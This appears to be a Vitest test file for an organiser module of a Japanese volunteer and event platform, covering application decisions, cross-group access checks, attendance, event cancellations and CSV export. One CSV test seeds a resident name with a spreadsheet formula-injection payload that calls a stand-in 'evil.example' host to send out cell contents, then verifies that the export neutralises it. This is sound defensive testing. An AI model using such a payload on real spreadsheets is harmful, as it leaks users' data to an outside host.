import { describe, expect, it } from "vitest";
import { prisma } from "~/utils/db.server";
import { applyToShift } from "~/modules/participation/participation.server";
import { applicantsCsv, cancelEventDate, decideApplication, listApplicants, listRegistrants, neutralizeFormula } from "~/modules/participation/organiser.server";
import { createEvent, createOpening, createResident, daysFromNow } from "../support/factories";

/** A new published opening of `groupId` with one shift three days from now. */
function openingOfGroup(groupId: number, { slots, needsApproval }: { slots: number; needsApproval: boolean }) {
  return createOpening({ id: groupId }, { title: "テスト用 配膳ボランティア", needsApproval, shifts: [{ startsAt: daysFromNow(3), slots }] });
}

const t = (k: string) => k;

describe("organiser decides on applications", () => {
  it("accepts within slots, refuses beyond, declines and frees a slot for the waitlist, emails each decision", async () => {
    const opening = await openingOfGroup(1, { slots: 1, needsApproval: true });
    const shiftId = opening.shiftIds[0]!;
    const a = await createResident();
    const b = await createResident();
    const ra = await applyToShift({ userId: a.id, shiftId, consent: true, message: "" });
    const rb = await applyToShift({ userId: b.id, shiftId, consent: true, message: "" });
    const ida = ra.ok ? ra.applicationId : 0;
    const idb = rb.ok ? rb.applicationId : 0;
    expect(await decideApplication({ groupId: 1, applicationId: ida, decision: "accept", staffUserId: 1 })).toEqual({ ok: true });
    expect(await decideApplication({ groupId: 1, applicationId: idb, decision: "accept", staffUserId: 1 })).toEqual({ ok: false, reason: "full" });
    await prisma.application.update({ where: { id: idb }, data: { status: "waitlisted" } });
    expect(await decideApplication({ groupId: 1, applicationId: ida, decision: "decline", staffUserId: 1 })).toEqual({ ok: true });
    expect((await prisma.application.findUniqueOrThrow({ where: { id: idb } })).status).toBe("accepted");
    expect(await prisma.emailOutbox.count({ where: { toAddress: a.email, template: "application-decided" } })).toBe(2);
    expect(await prisma.auditLog.count({ where: { entityType: "application", entityId: ida } })).toBe(2);
  });

  it("another group cannot touch these applications (IDOR): not found, nothing changes", async () => {
    const opening = await openingOfGroup(1, { slots: 5, needsApproval: true });
    const u = await createResident();
    const r = await applyToShift({ userId: u.id, shiftId: opening.shiftIds[0]!, consent: true, message: "" });
    const id = r.ok ? r.applicationId : 0;
    expect(await decideApplication({ groupId: 2, applicationId: id, decision: "accept", staffUserId: 1 })).toEqual({ ok: false, reason: "not-found" });
    expect((await prisma.application.findUniqueOrThrow({ where: { id } })).status).toBe("applied");
    expect(await listApplicants(2, opening.id, { contacts: true })).toBeNull();
  });

  it("records attendance and hours only after the shift started, and the hours count as verified", async () => {
    const opening = await openingOfGroup(1, { slots: 5, needsApproval: false });
    const u = await createResident();
    const r = await applyToShift({ userId: u.id, shiftId: opening.shiftIds[0]!, consent: true, message: "" });
    const id = r.ok ? r.applicationId : 0;
    expect(await decideApplication({ groupId: 1, applicationId: id, decision: "attended", hours: 3, staffUserId: 1 })).toEqual({ ok: false, reason: "not-yet" });
    const later = new Date(Date.now() + 5 * 86400_000);
    expect(await decideApplication({ groupId: 1, applicationId: id, decision: "attended", hours: 3, staffUserId: 1 }, later)).toEqual({ ok: true });
    const row = await prisma.application.findUniqueOrThrow({ where: { id } });
    expect(row).toMatchObject({ status: "attended", hours: 3, hoursVerifiedById: 1 });
    expect(row.hoursVerifiedAt).not.toBeNull();
  });
});

describe("applicants CSV for Excel", () => {
  it("starts with a BOM, neutralises formulas, keeps Japanese intact, and shows contacts only with consent", async () => {
    const opening = await openingOfGroup(1, { slots: 5, needsApproval: false });
    const shiftId = opening.shiftIds[0]!;
    const evil = await createResident({ name: '=HYPERLINK("http://evil.example?"&A1,"x")', phone: "+81 90 1234 5678" });
    const kind = await createResident({ name: "髙橋 〜①", phone: "049-200-1111" });
    await applyToShift({ userId: evil.id, shiftId, consent: true, message: "@SUM(1)" });
    await applyToShift({ userId: kind.id, shiftId, consent: true, message: "よろしくお願いします" });
    // A resident who did not consent (an older row): the group sees the name only.
    const quiet = await createResident({ name: "同意なし 花子" });
    await prisma.application.create({ data: { shiftId, userId: quiet.id, status: "accepted", consentToShareContact: false } });
    const csv = (await applicantsCsv(1, opening.id, t, "ja"))!.body;
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`);
    expect(csv).toContain("'+81 90 1234 5678");
    expect(csv).toContain("'@SUM(1)");
    expect(csv).toContain("髙橋 〜①");
    expect(csv).toContain("同意なし 花子");
    expect(csv).not.toContain(quiet.email);
    expect(csv).toContain(kind.email);
    expect(csv.split("\r\n").length).toBeGreaterThan(3);
  });

  it("neutralises every spreadsheet formula lead character", () => {
    for (const lead of ["=", "+", "-", "@", "\t", "\r"]) expect(neutralizeFormula(`${lead}1`)).toBe(`'${lead}1`);
    expect(neutralizeFormula("ふつうの文")).toBe("ふつうの文");
  });
});

describe("organiser's event registrations", () => {
  async function eventWithRegistration(groupId: number) {
    const startsAt = daysFromNow(5);
    const event = await createEvent(
      { id: groupId },
      {
        title: "テスト用 健康講座",
        registrationRequired: true,
        capacity: 10,
        dates: [{ startsAt, endsAt: new Date(startsAt.getTime() + 3600_000), capacity: 10, registeredCount: 2 }],
      },
    );
    const consenting = await createResident({ name: "申込 一郎" });
    const silent = await createResident({ name: "申込 二郎" });
    await prisma.registration.create({ data: { eventDateId: event.dateIds[0]!, userId: consenting.id, status: "accepted", partySize: 1, consentToShareContact: true } });
    await prisma.registration.create({ data: { eventDateId: event.dateIds[0]!, userId: silent.id, status: "accepted", partySize: 1, consentToShareContact: false } });
    return { event, consenting, silent };
  }

  it("lists registrants per date, with contacts only for those who consented; another group sees nothing", async () => {
    const { event, consenting, silent } = await eventWithRegistration(1);
    const data = (await listRegistrants(1, event.id, { contacts: true }))!;
    const regs = data.dates[0]!.registrations;
    expect(regs.find((r) => r.name === "申込 一郎")!.email).toBe(consenting.email);
    expect(regs.find((r) => r.name === "申込 二郎")!.email).toBeNull();
    expect(JSON.stringify(data)).not.toContain(silent.email);
    expect(await listRegistrants(2, event.id, { contacts: true })).toBeNull();
  });

  it("cancelling one date keeps its registrations, marks it cancelled and emails everyone registered", async () => {
    const { event, consenting, silent } = await eventWithRegistration(1);
    const dateId = event.dateIds[0]!;
    expect(await cancelEventDate({ groupId: 2, eventDateId: dateId, note: "", staffUserId: 1 })).toEqual({ ok: false, reason: "not-found" });
    expect(await cancelEventDate({ groupId: 1, eventDateId: dateId, note: "講師の体調不良のため", staffUserId: 1 })).toEqual({ ok: true, told: 2 });
    const date = await prisma.eventDate.findUniqueOrThrow({ where: { id: dateId } });
    expect(date).toMatchObject({ status: "cancelled", note: "講師の体調不良のため" });
    expect(await prisma.registration.count({ where: { eventDateId: dateId } })).toBe(2);
    for (const p of [consenting, silent]) expect(await prisma.emailOutbox.count({ where: { toAddress: p.email, template: "date-cancelled" } })).toBe(1);
    expect(await cancelEventDate({ groupId: 1, eventDateId: dateId, note: "", staffUserId: 1 })).toEqual({ ok: false, reason: "closed" });
  });
});
